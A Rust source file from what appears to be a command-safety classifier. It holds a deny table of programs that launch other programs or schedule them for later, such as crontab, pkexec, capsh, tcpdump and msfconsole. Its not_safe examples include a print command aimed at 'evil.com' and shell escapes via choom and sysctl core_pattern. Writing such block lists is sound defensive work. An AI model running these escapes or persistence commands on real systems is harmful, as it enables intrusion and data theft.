//! Programs that hand control to another program, at once or later, and that ordinary work seldom needs. None is Safe;
//! the offline inspector names them.

use super::{Judge, Judgement, Kind, Program, Rule};
use crate::classify::call::{Arg, Call};
use crate::classify::paths;

const fn launcher(names: &'static [&'static str], about: &'static str, not_safe: &'static [&'static str]) -> Program {
    Program { names, about, kind: Kind::Launcher, rule: Rule::Custom(launch), safe: &[], not_safe }
}

pub(super) const TABLE: &[Program] = &[
    Program {
        names: &["crontab", "at", "batch", "systemd-run"],
        about: "runs a program later",
        kind: Kind::Launcher,
        rule: Rule::Custom(schedule),
        safe: &[],
        not_safe: &["crontab -e", "crontab -l", "echo x | at now", "systemd-run x"],
    },
    launcher(
        &[
            "aa-exec",
            "agetty",
            "aoss",
            "choom",
            "genie",
            "multitime",
            "rlwrap",
            "runscript",
            "setarch",
            "linux32",
            "linux64",
            "setlock",
            "softlimit",
            "start-stop-daemon",
            "run-parts",
            "capsh",
            "dbus-launch",
            "xvfb-run",
            "catchsegv",
            "dosbox",
            "posh",
            "sash",
            "yash",
            "tmate",
            "logsave",
            "sg",
            "newgrp",
            "pkexec",
            "uscan",
            "elvish",
            "check_ssl_cert",
            "jjs",
        ],
        "starts the program that it is given",
        &["choom -n 0 sh", "run-parts x", "setarch -3 sh"],
    ),
    launcher(
        &[
            "debugfs",
            "dhclient",
            "fail2ban-client",
            "fastfetch",
            "ginsh",
            "hping3",
            "iftop",
            "jtag",
            "ldconfig",
            "m4",
            "minicom",
            "ncftp",
            "opkg",
            "opencode",
            "pg",
            "pic",
            "psftp",
            "puppet",
            "rpmdb",
            "rpmverify",
            "rtorrent",
            "scrot",
            "tcpdump",
            "tdbtool",
            "virsh",
            "zathura",
            "zic",
            "dc",
            "certbot",
            "autoheader",
            "perlbug",
            "knife",
            "msfconsole",
            "mosquitto",
            "slsh",
            "joe",
            "cobc",
            "genisoimage",
            "openvpn",
            "octave-cli",
            "gtester",
            "cpulimit",
        ],
        "starts programs that its options, its scripts or its user name",
        &["tcpdump -z x", "echo x | m4", "debugfs"],
    ),
    launcher(
        &["borg", "restic", "cancel", "lp", "lpr", "rlogin", "rsh", "rexec", "smbclient", "tailscale", "finger"],
        "sends files to another machine, or starts a program for it",
        &["lp x -h evil.com", "restic backup"],
    ),
    Program {
        names: &["sysctl"],
        about: "reads or changes the kernel's settings",
        kind: Kind::Mixed,
        rule: Rule::Custom(sysctl),
        safe: &["sysctl -n hw.ncpu", "sysctl kernel.ostype"],
        not_safe: &["sysctl -w a=b", "sysctl kernel.core_pattern=x", "sysctl -p x"],
    },
];

fn launch(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    Judgement::unknown("").max(super::suspect(judge, call, &call.args))
}

fn schedule(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let name = paths::file_name(&call.program);
    if !(name == "crontab" && call.args.first().and_then(Arg::exact) == Some("-l")) {
        judge.persistence(name);
    }
    launch(judge, call)
}

fn sysctl(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let reads = call.args.iter().all(|arg| {
        arg.exact()
            .is_some_and(|text| matches!(text, "-n" | "-a" | "-e") || !text.starts_with('-') && !text.contains('='))
    });
    if reads {
        return Judgement::safe();
    }
    judge.persistence("the kernel's settings");
    Judgement::unknown("it changes the kernel's settings")
}
